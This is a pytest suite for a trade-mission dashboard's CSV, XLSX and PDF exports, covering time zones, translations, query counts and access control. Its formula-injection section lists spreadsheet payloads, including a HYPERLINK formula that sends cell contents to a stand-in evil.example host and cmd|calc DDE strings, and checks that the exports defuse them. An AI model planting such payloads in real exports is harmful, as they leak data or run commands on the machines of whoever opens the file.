"""Exports (CSV, XLSX) and print-outs (PDF) of a mission, read back as a staff member would."""

import csv
import html
import io
import re
import zipfile
from datetime import date, datetime, time
from decimal import Decimal
from unittest.mock import ANY

import pytest
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.translation import gettext
from openpyxl import load_workbook
from pypdf import PdfReader

from dashboard.exports import DATE, DATETIME, TIME, _csv_value, safe_text
from feedback.models import MeetingFeedback
from matchmaking.models import MeetingRequest, MeetingStatus
from matchmaking.services import meeting_book, meeting_cancel
from missions.models import Delegate, Mission
from tests.factories import (
    CompanyMemberFactory,
    MeetingSessionFactory,
    MissionFactory,
    SectorFactory,
    StaffFactory,
    participants,
)

pytestmark = pytest.mark.django_db

ZONE = "America/Los_Angeles"


@pytest.fixture
def mission():
    return MissionFactory(
        slug="sf-2027",
        title="Mission TIC San Francisco",
        city="San Francisco",
        country="US",
        timezone=ZONE,
        status=Mission.Status.SCHEDULING,
    )


@pytest.fixture
def session(mission):
    # 09:00-12:00 Pacific: six slots of 30 minutes, three tables.
    return MeetingSessionFactory(mission=mission, place="Moscone West")


def book(session, *, index=0, delegates=1):
    """A new approved firm and confirmed operator who meet in slot ``index`` of ``session``."""
    owner, contact = participants(session.mission, delegates=delegates)
    slot = session.slots.order_by("starts_at")[index]
    return meeting_book(
        mission=session.mission,
        company=owner.company,
        operator=contact.operator,
        slot=slot,
        by=owner,
    )


def read_csv(response):
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode())  # Excel reads the file as UTF-8
    text = body.decode("utf-8-sig")
    delimiter = ";" if text.splitlines()[0].count(";") else ","
    return list(csv.reader(io.StringIO(text), delimiter=delimiter)), delimiter


def read_xlsx(response):
    return load_workbook(io.BytesIO(response.content))


def pdf_text(response):
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF-")
    reader = PdfReader(io.BytesIO(response.content))
    return reader, "\n".join(page.extract_text() for page in reader.pages)


# CSV and XLSX ------------------------------------------------------------------------------


def test_schedule_csv_in_french_has_pacific_times_and_the_zone(client, staff, session):
    meeting = book(session, index=1)
    cancelled = book(session, index=2)
    meeting_cancel(meeting=cancelled, by=staff, staff=True, reason="Vol annulé")
    client.force_login(staff)

    response = client.get(reverse("dashboard:export_csv", args=["sf-2027", "schedule"]))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.now().astimezone(session.mission.tzinfo).date()
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="sf-2027-')
    assert disposition.endswith(f'-{today:%Y-%m-%d}.csv"')
    rows, delimiter = read_csv(response)
    assert delimiter == ";"  # the list separator of a French Excel
    header, *body = rows
    # Headings whose French is in the catalogue already.
    assert header[:5] == [
        "Jour",
        "Début (America/Los_Angeles)",
        "Fin (America/Los_Angeles)",
        "Lieu",
        "Table",
    ]
    assert len(body) == 1  # the cancelled meeting is not in the schedule
    row = dict(zip(header, body[0], strict=True))
    assert row["Jour"] == session.day.isoformat()
    # The second slot is 09:30-10:00 in San Francisco (17:30 UTC or 16:30 UTC in summer).
    assert row["Début (America/Los_Angeles)"] == "09:30"
    assert row["Fin (America/Los_Angeles)"] == "10:00"
    assert row["Lieu"] == "Moscone West"
    assert row["Entreprise marocaine"] == meeting.company.display_name
    assert row["Opérateur"] == meeting.operator.name
    assert row["Délégué"] == meeting.delegate.full_name
    assert row["Statut"] == "Confirmée"


def test_schedule_export_records_attendance_in_local_time(client, staff, session):
    meeting = book(session)
    confirmed = datetime(2027, 1, 15, 18, 5, tzinfo=session.mission.tzinfo)
    meeting.company_confirmed_at = confirmed
    meeting.save(update_fields=["company_confirmed_at"])
    client.force_login(staff)

    rows, _ = read_csv(client.get(reverse("dashboard:export_csv", args=["sf-2027", "schedule"])))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Présence confirmée par l’entreprise (America/Los_Angeles)"] == "2027-01-15 18:05"
    assert row["Présence confirmée par l’opérateur (America/Los_Angeles)"] == ""


def test_schedule_csv_in_english(client, session):
    book(session)
    client.force_login(StaffFactory(language="en"))

    response = client.get(reverse("dashboard:export_csv", args=["sf-2027", "schedule"]))

    rows, delimiter = read_csv(response)
    assert delimiter == ","
    assert rows[0][:3] == ["Day", "Start (America/Los_Angeles)", "End (America/Los_Angeles)"]
    assert rows[1][1:3] == ["09:00", "09:30"]
    assert "sf-2027-schedule-" in response["Content-Disposition"]


def test_schedule_csv_and_agenda_give_the_place_in_the_readers_language(client, session):
    type(session).objects.filter(pk=session.pk).update(
        place_fr="Centre Moscone, salle Ouest", place_en="", place_ar="مركز موسكون"
    )
    meeting = book(session)
    client.force_login(StaffFactory(language="en"))
    rows, _delimiter = read_csv(
        client.get(reverse("dashboard:export_csv", args=["sf-2027", "schedule"]))
    )
    assert rows[1][3] == "Centre Moscone, salle Ouest"  # not written in English: French
    assert meeting.slot.session_id == session.pk
    with translation.override("ar"):
        from dashboard.exports import schedule_export

        assert next(iter(schedule_export(session.mission).rows))[3] == "مركز موسكون"


def test_schedule_xlsx_has_a_frozen_bold_header_and_real_times(client, staff, session):
    meeting = book(session, index=3)
    client.force_login(staff)

    response = client.get(reverse("dashboard:export_xlsx", args=["sf-2027", "schedule"]))

    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = read_xlsx(response).active
    assert sheet.title == gettext("Schedule")
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].value == "Jour" and sheet["A1"].font.bold
    assert sheet["B1"].value == "Début (America/Los_Angeles)"
    assert sheet.column_dimensions["F"].width == 28
    assert sheet.max_row == 2
    day, start, end = (sheet.cell(row=2, column=c).value for c in (1, 2, 3))
    # openpyxl reads a date cell back as a datetime at midnight.
    assert day == datetime.combine(session.day, time())
    assert (start, end) == (time(10, 30), time(11, 0))
    assert sheet["B2"].number_format == "hh:mm"
    assert sheet["F2"].value == meeting.company.display_name


def test_participants_export_lists_delegates_members_and_contacts(client, staff, mission):
    owner, contact = participants(mission, delegates=2)
    CompanyMemberFactory(company=owner.company, company_role="member", full_name="Salma Idrissi")
    owner.company.applications.get().delegates.filter(full_name="Délégué 1").update(
        languages=["ar", "fr"], other_languages="Tamazight"
    )
    contact.job_title, contact.languages = "DSI", ["en"]
    contact.save()
    outsider, _ = participants(MissionFactory())  # another mission's firm
    client.force_login(staff)

    response = client.get(reverse("dashboard:export_xlsx", args=["sf-2027", "participants"]))

    sheet = read_xlsx(response).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][1:5] == ("Organisation", "Type", "Ville", "Pays")
    assert rows[0][7:] == ("Nom complet", "Fonction", "Langues parlées", "E-mail", "Téléphone")
    firm = [r for r in rows[1:] if r[1] == owner.company.display_name]
    assert sorted((r[0], r[6], r[7], r[8], r[9], r[10]) for r in firm) == sorted(
        [
            ("Entreprise marocaine", "Délégué", "Délégué 0", "CEO", None, None),
            (
                "Entreprise marocaine",
                "Délégué",
                "Délégué 1",
                "CEO",
                "Français, Arabe, Tamazight",
                None,
            ),
            ("Entreprise marocaine", "Membre", owner.full_name, "Titulaire", None, owner.email),
            ("Entreprise marocaine", "Membre", "Salma Idrissi", "Membre", None, ANY),
        ]
    )
    operator = [r for r in rows[1:] if r[1] == contact.operator.name]
    assert [(r[0], r[4], r[6], r[7], r[8], r[9], r[10]) for r in operator] == [
        (
            "Opérateur",
            "Côte d'Ivoire",
            "Contact",
            contact.full_name,
            "DSI",
            "Anglais",
            contact.email,
        )
    ]
    assert not [r for r in rows if r[1] == outsider.company.display_name]


def test_requests_export_marks_mutual_wishes(client, staff, mission):
    owner, contact = participants(mission)
    other_owner, _ = participants(mission)
    for side in ("company", "operator"):
        MeetingRequest.objects.create(
            mission=mission,
            company=owner.company,
            operator=contact.operator,
            side=side,
            priority=3,
            message="Paiement mobile",
        )
    MeetingRequest.objects.create(
        mission=mission, company=other_owner.company, operator=contact.operator, side="company"
    )
    client.force_login(staff)

    rows, _ = read_csv(client.get(reverse("dashboard:export_csv", args=["sf-2027", "requests"])))

    header, *body = rows
    assert header[:6] == [
        "Entreprise marocaine",
        "Opérateur",
        "Demandée par",
        "Priorité",
        "Statut",
        "Souhait réciproque",
    ]
    by_firm = {}
    for row in body:
        by_firm.setdefault(row[0], []).append(row)
    mutual = by_firm[owner.company.display_name]
    assert {r[2] for r in mutual} == {"Entreprise marocaine", "Opérateur"}
    assert {(r[3], r[5], r[6]) for r in mutual} == {("Essentielle", "Oui", "Paiement mobile")}
    assert [r[5] for r in by_firm[other_owner.company.display_name]] == ["Non"]


def test_outcomes_export_holds_every_meeting_with_its_outcome(client, staff, session):
    held, no_show, cancelled, planned = (book(session, index=i) for i in range(4))
    held.status, no_show.status = MeetingStatus.HELD, MeetingStatus.NO_SHOW
    held.save(), no_show.save()
    meeting_cancel(meeting=cancelled, by=staff, staff=True, reason="Vol annulé")
    client.force_login(staff)

    rows, _ = read_csv(client.get(reverse("dashboard:export_csv", args=["sf-2027", "outcomes"])))

    header, *body = rows
    outcome = {row[3]: dict(zip(header, row, strict=True)) for row in body}
    assert len(body) == 4
    result = gettext("Outcome")  # a new heading, translated by the owner of the catalogue
    assert outcome[held.company.display_name][result] == "Tenu"
    assert outcome[no_show.company.display_name][result] == "Absence"
    assert outcome[cancelled.company.display_name][result] == "Annulée"
    assert outcome[cancelled.company.display_name]["Motif d’annulation"] == "Vol annulé"
    assert outcome[planned.company.display_name][result] == "Confirmée"
    assert outcome[planned.company.display_name]["Début (America/Los_Angeles)"] == "10:30"


def test_outcomes_carry_each_sides_latest_feedback(client, session):
    held, other = book(session, index=0), book(session, index=1)
    for meeting in (held, other):
        meeting.status = MeetingStatus.HELD
        meeting.save()
    answer = {"meeting": held, "outcome": "follow_up"}
    MeetingFeedback.objects.create(**answer, side="company", stage="after", rating=4)
    MeetingFeedback.objects.create(
        **answer, side="operator", stage="after", rating=2, estimated_value=Decimal("1500.50")
    )
    MeetingFeedback.objects.create(
        meeting=held,
        side="company",
        stage="3_months",
        outcome="deal",
        estimated_value=Decimal("250000"),
        comment="Contrat signé à Casablanca",
    )
    client.force_login(StaffFactory(language="en"))

    rows, _ = read_csv(client.get(reverse("dashboard:export_csv", args=["sf-2027", "outcomes"])))

    header, *body = rows
    by_firm = {row[3]: dict(zip(header, row, strict=True)) for row in body}
    firm = by_firm[held.company.display_name]
    assert firm["Rating by the firm (1 to 5)"] == "4"
    assert firm["Latest outcome reported by the firm"] == "Deal signed"  # the 3-month answer
    assert firm["Value estimated by the firm (MAD)"] == "250000.00"
    assert firm["Rating by the operator (1 to 5)"] == "2"
    assert firm["Latest outcome reported by the operator"] == "Follow-up planned"
    assert firm["Value estimated by the operator (MAD)"] == "1500.50"
    assert by_firm[other.company.display_name]["Latest outcome reported by the firm"] == ""

    response = client.get(reverse("dashboard:export_xlsx", args=["sf-2027", "feedback"]))
    sheet = read_xlsx(response).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:3] == ("Day", "Start (America/Los_Angeles)", "Moroccan firm")
    answers = {(r[5], r[6]): r for r in rows[1:]}
    assert set(answers) == {
        ("Moroccan firm", "After the mission"),
        ("Operator", "After the mission"),
        ("Moroccan firm", "3 months later"),
    }
    deal = answers["Moroccan firm", "3 months later"]
    assert deal[1] == time(9, 0) and deal[4] == "Held"
    assert (deal[8], deal[9], deal[10]) == ("Deal signed", 250000, "Contrat signé à Casablanca")


def test_decimals_take_a_comma_in_the_french_csv(client, staff, session):
    meeting = book(session)
    meeting.status = MeetingStatus.HELD
    meeting.save()
    MeetingFeedback.objects.create(
        meeting=meeting, side="company", stage="after", rating=5, outcome="proposal",
        estimated_value=Decimal("1500.50"),
    )  # fmt: skip
    client.force_login(staff)

    rows, delimiter = read_csv(
        client.get(reverse("dashboard:export_csv", args=["sf-2027", "feedback"]))
    )
    assert delimiter == ";" and len(rows) == 2
    assert "1500,50" in rows[1] and "5" in rows[1]


def test_workbook_of_everything_has_one_sheet_per_export(client, session):
    book(session)
    client.force_login(StaffFactory(language="en"))

    response = client.get(reverse("dashboard:export_xlsx", args=["sf-2027", "all"]))

    workbook = read_xlsx(response)
    assert workbook.sheetnames == ["Participants", "Schedule", "Requests", "Outcomes", "Feedback"]
    assert workbook["Schedule"].max_row == 2 and workbook["Outcomes"].max_row == 2
    assert "sf-2027-exports-" in response["Content-Disposition"]


def test_unknown_export_is_not_found(client, staff, mission):
    client.force_login(staff)
    assert client.get(reverse("dashboard:export_csv", args=["sf-2027", "x"])).status_code == 404


def _many(session, count):
    for index in range(count):
        book(session, index=index % 6)


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("dashboard:export_csv", "schedule"),
        ("dashboard:export_csv", "participants"),
        ("dashboard:export_csv", "requests"),
        ("dashboard:export_xlsx", "outcomes"),
        ("dashboard:export_csv", "feedback"),
        ("dashboard:export_xlsx", "all"),
    ],
)
def test_export_queries_do_not_grow_with_meetings(client, staff, session, queries, name, kind):
    client.force_login(staff)
    url = reverse(name, args=["sf-2027", kind])

    def download():
        response = client.get(url)
        if response.streaming:
            b"".join(response.streaming_content)

    _many(session, 1)
    few = queries(download)
    _many(session, 12)
    assert queries(download) == few


# PDF ---------------------------------------------------------------------------------------


def test_agenda_of_one_firm_lists_its_meetings_in_local_time(client, staff, session):
    meeting = book(session, index=2, delegates=2)
    client.force_login(staff)

    response = client.get(
        reverse("dashboard:print_agenda", args=["sf-2027", "company", meeting.company_id])
    )

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("inline;")
    _reader, text = pdf_text(response)
    assert meeting.company.display_name in text
    assert meeting.operator.name in text
    assert "10:00–10:30" in text  # third slot, Pacific time
    assert "America/Los_Angeles" in text
    assert "Mission TIC San Francisco" in text
    assert "Délégué 0" in text and "Délégué 1" in text  # the firm's delegates


def test_agendas_of_every_operator_one_per_page(client, staff, session):
    meetings = [book(session, index=i) for i in range(3)]
    client.force_login(staff)

    response = client.get(reverse("dashboard:print_agendas", args=["sf-2027", "operator"]))

    reader, _text = pdf_text(response)
    assert len(reader.pages) == 3
    for page, meeting in zip(
        reader.pages, sorted(meetings, key=lambda m: m.operator.name.lower()), strict=True
    ):
        text = page.extract_text()
        assert meeting.operator.name in text and meeting.company.display_name in text
        assert "1 / 3" in text or "/ 3" in text  # page numbers in the footer


def test_agenda_of_a_participant_of_another_mission_is_not_found(client, staff, mission):
    owner, _contact = participants(MissionFactory())
    client.force_login(staff)
    url = reverse("dashboard:print_agenda", args=["sf-2027", "company", owner.company_id])
    assert client.get(url).status_code == 404


def test_table_plan_shows_who_sits_where(client, staff, session):
    first = book(session, index=0)
    second = book(session, index=0)
    later = book(session, index=5)
    client.force_login(staff)

    response = client.get(reverse("dashboard:print_plan", args=["sf-2027", session.pk]))

    _reader, text = pdf_text(response)
    assert "Table 1" in text and "Table 3" in text
    for meeting in (first, second, later):
        assert meeting.company.display_name in text and meeting.operator.name in text
    assert "09:00–09:30" in text and "11:30–12:00" in text
    assert "Moscone West" in text and "America/Los_Angeles" in text


def test_badges_sheet_names_everybody(client, staff, mission):
    owner, contact = participants(mission, delegates=2)
    client.force_login(staff)

    response = client.get(reverse("dashboard:print_badges", args=["sf-2027"]))

    _reader, text = pdf_text(response)
    text = " ".join(text.split())  # a long name wraps on the badge
    for name in ("Délégué 0", "Délégué 1", contact.full_name):
        assert name in text
    assert owner.company.display_name in text and contact.operator.name in text
    assert "Maroc Export" in text and "Mission TIC San Francisco" in text

    url = reverse("dashboard:print_badges", args=["sf-2027"])
    only_firms = pdf_text(client.get(url, {"side": "company"}))[1]
    assert "Délégué 0" in only_firms and contact.full_name not in only_firms


@pytest.mark.parametrize(
    ("name", "args"),
    [
        ("dashboard:print_agendas", ["company"]),
        ("dashboard:print_agendas", ["operator"]),
        ("dashboard:print_plans", []),
        ("dashboard:print_badges", []),
    ],
)
def test_print_queries_do_not_grow_with_meetings(client, staff, session, queries, name, args):
    client.force_login(staff)
    url = reverse(name, args=["sf-2027", *args])
    _many(session, 1)
    few = queries(lambda: client.get(url))
    _many(session, 8)
    assert queries(lambda: client.get(url)) == few


# The page ----------------------------------------------------------------------------------


def test_exports_page_lists_every_export_and_print(client, staff, session):
    meeting = book(session)
    client.force_login(staff)

    page = client.get(reverse("dashboard:exports", args=["sf-2027"])).content.decode()

    for kind in ("participants", "schedule", "requests", "outcomes", "feedback"):
        assert reverse("dashboard:export_csv", args=["sf-2027", kind]) in page
        assert reverse("dashboard:export_xlsx", args=["sf-2027", kind]) in page
    assert reverse("dashboard:export_xlsx", args=["sf-2027", "all"]) in page
    assert (
        reverse("dashboard:print_agenda", args=["sf-2027", "company", meeting.company_id]) in page
    )
    assert (
        reverse("dashboard:print_agenda", args=["sf-2027", "operator", meeting.operator_id]) in page
    )
    assert reverse("dashboard:print_plan", args=["sf-2027", session.pk]) in page
    assert reverse("dashboard:print_badges", args=["sf-2027"]) in page
    assert f'<h1 class="h4">{gettext("Exports & print")} ' in html.unescape(page)
    # The mission's tab bar leads here.
    mission_page = client.get(reverse("dashboard:mission", args=["sf-2027"])).content.decode()
    assert reverse("dashboard:exports", args=["sf-2027"]) in mission_page


@pytest.mark.parametrize(
    ("name", "args"),
    [
        ("dashboard:exports", []),
        ("dashboard:export_csv", ["schedule"]),
        ("dashboard:export_xlsx", ["all"]),
        ("dashboard:print_badges", []),
    ],
)
def test_firm_members_get_nothing(client, session, name, args):
    meeting = book(session)
    client.force_login(meeting.company.members.first())
    response = client.get(reverse(name, args=["sf-2027", *args]))
    assert response.status_code == 403
    assert meeting.operator.name.encode() not in response.content


def test_csv_values_are_the_same_in_every_language():
    assert _csv_value(date(2027, 11, 13), DATE) == "2027-11-13"
    assert _csv_value(time(9, 5), TIME) == "09:05"
    assert _csv_value(datetime(2027, 11, 13, 18, 5), DATETIME) == "2027-11-13 18:05"
    assert _csv_value(None, TIME) == ""


# Formula injection (CWE-1236) --------------------------------------------------------------

# What anybody can type where a staff member's spreadsheet shows it: each would run as a
# formula, or start one, if a cell began with it.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full width
)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
KINDS = ("participants", "schedule", "requests", "outcomes", "feedback")


@pytest.fixture
def planted(session, staff):
    """A held meeting and a cancelled one whose every free text was typed by an attacker
    (names, cities, roles, phones, e-mails, the place, the request message, the cancellation
    reason, the feedback comment). Returns, per export, the planted values it must show."""
    held, cancelled = book(session, index=0), book(session, index=1)
    meeting_cancel(meeting=cancelled, by=staff, staff=True, reason="x")
    count = iter(range(1000))

    def plant(instance, *names, suffix=""):
        values = {
            name: f"{HOSTILE[(n := next(count)) % len(HOSTILE)]}#{n}{suffix}" for name in names
        }
        type(instance).objects.filter(pk=instance.pk).update(**values)
        return values

    expect = {kind: set() for kind in KINDS}
    firms = {}
    for meeting in (held, cancelled):
        firm = plant(meeting.company, "legal_name", "city")
        if meeting is held:  # shown instead of the legal name
            firm |= plant(meeting.company, "trade_name")
        firms[meeting] = firm.get("trade_name", firm["legal_name"])
        operator = plant(meeting.operator, "name", "city")
        delegate = plant(meeting.delegate, "full_name", "role")
        people = [
            plant(p, "full_name", "phone") | plant(p, "email", suffix="@evil.example")
            for p in (*meeting.company.members.all(), *meeting.operator.contacts.all())
        ]
        expect["participants"] |= {firms[meeting], firm["city"], *operator.values()}
        expect["participants"] |= {*delegate.values(), *(v for p in people for v in p.values())}
        shown = {firms[meeting], operator["name"]}
        expect["outcomes"] |= shown | {delegate["full_name"]}
        if meeting is held:
            expect["schedule"] |= shown | {delegate["full_name"]}
            expect["requests"] |= shown
            expect["feedback"] |= shown | {people[0]["full_name"]}
    sector = SectorFactory(name_fr=HOSTILE[0] + "#secteur")
    held.company.sectors.add(sector)
    expect["participants"].add(sector.name_fr)
    expect["schedule"] |= set(plant(session, "place").values())
    expect["outcomes"] |= set(plant(cancelled, "cancel_reason").values())
    held.status = MeetingStatus.HELD
    held.save(update_fields=["status"])
    request = MeetingRequest.objects.create(
        mission=session.mission, company=held.company, operator=held.operator, side="company"
    )
    expect["requests"] |= set(plant(request, "message").values())
    answer = MeetingFeedback.objects.create(
        meeting=held, side="company", stage="after", rating=4, outcome="deal",
        estimated_value=Decimal("1500.50"), submitted_by=held.company.members.first(),
    )  # fmt: skip
    expect["feedback"] |= set(plant(answer, "comment").values())
    return expect


def _assert_defused(cells, expected):
    """No text cell begins a formula, and every planted value is there behind a quote."""
    assert [c for c in cells if c.startswith(TRIGGERS)] == []
    assert expected <= {c[1:] for c in cells if c.startswith("'")}


@pytest.mark.parametrize("kind", KINDS)
def test_csv_exports_defuse_formulas_in_every_text_cell(client, staff, planted, kind):
    client.force_login(staff)

    rows, _ = read_csv(client.get(reverse("dashboard:export_csv", args=["sf-2027", kind])))

    _assert_defused([value for row in rows for value in row], planted[kind])


def test_xlsx_exports_write_text_as_strings_never_formulas(client, staff, planted):
    client.force_login(staff)

    response = client.get(reverse("dashboard:export_xlsx", args=["sf-2027", "all"]))

    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert len(sheets) == len(KINDS)
        for name in sheets:
            assert not re.search(rb"<(\w+:)?f[\s>/]", archive.read(name)), name
    workbook = read_xlsx(response)
    for kind, sheet in zip(KINDS, workbook.worksheets, strict=True):
        cells = [c for row in sheet.iter_rows() for c in row]
        assert {c.data_type for c in cells} <= {"s", "inlineStr", "n", "d"}, kind
        # XML reads a carriage return as a line feed.
        expected = {v.replace("\r", "\n") for v in planted[kind]}
        _assert_defused([c.value for c in cells if isinstance(c.value, str)], expected)
    # Numbers and dates stay numbers and dates.
    feedback = list(workbook.worksheets[4].iter_rows(min_row=2, values_only=True))
    assert [(type(r[0]), r[7], r[9]) for r in feedback] == [(datetime, 4, 1500.5)]
    assert isinstance(workbook.worksheets[1]["E2"].value, int)  # the table


def test_safe_text_quotes_only_what_would_start_a_formula():
    for value in HOSTILE:
        assert safe_text(value) == "'" + value
    for value in ("Banque Lagune", "a=b", "2027", "", "'=1", " ", "\u200b", "2027-01-05"):
        assert safe_text(value) == value


@pytest.mark.parametrize(
    "value",
    [
        # Invisible first, then a formula: forms keep all of these.
        " =1+1",
        "\u00a0=1+1",
        "\ufeff=1+1",
        "\u200b=1+1",
        "\u200b\u200d+1+1",
        "\x01=1+1",
        "\x7f=1+1",
        "\x1b@SUM(1)",
        # The small forms of = + - @.
        "\ufe66HYPERLINK(1)",
        "\ufe62cmd",
        "\ufe63cmd",
        "\ufe6bSUM(1)",
        "\ufeff\ufe66HYPERLINK(1)",
    ],
)
def test_safe_text_decides_on_the_first_visible_character(value):
    assert safe_text(value) == "'" + value


def test_xlsx_export_drops_control_characters_that_xml_cannot_hold(client, staff, session):
    meeting = book(session)
    type(meeting.operator).objects.filter(pk=meeting.operator_id).update(name="\x1b=1+1\x07 Op")
    client.force_login(staff)

    response = client.get(reverse("dashboard:export_xlsx", args=["sf-2027", "schedule"]))

    assert response.status_code == 200
    assert read_xlsx(response).active["H2"].value == "'=1+1 Op"


def test_schedule_export_says_which_meetings_need_an_interpreter(client, staff, session):
    understood, interpreted = book(session, index=0), book(session, index=1)
    for meeting, firm, operator in ((understood, ["fr"], ["fr"]), (interpreted, ["ar"], ["en"])):
        Delegate.objects.filter(pk=meeting.delegate_id).update(languages=firm)
        meeting.operator.contacts.update(languages=operator)
    client.force_login(staff)

    rows, _ = read_csv(client.get(reverse("dashboard:export_csv", args=["sf-2027", "schedule"])))

    header, *body = rows
    needed = {row[5]: row[header.index("Interprète nécessaire")] for row in body}
    assert needed == {
        understood.company.display_name: "Non",
        interpreted.company.display_name: "Oui",
    }
